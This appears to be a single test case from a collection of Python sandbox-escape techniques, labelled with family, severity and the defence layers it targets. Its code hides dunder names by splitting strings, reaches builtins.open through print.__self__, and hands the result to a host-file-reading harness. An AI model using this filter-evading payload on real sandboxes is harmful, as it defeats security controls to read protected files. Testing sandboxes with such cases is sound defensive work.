# technique: the attribute reader of the metaclass's table
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    read = vars(object)["__getattr" + "ibute__"]
    return read(read(print, "__se" + "lf__"), "op" + "en")

read_host(trick)
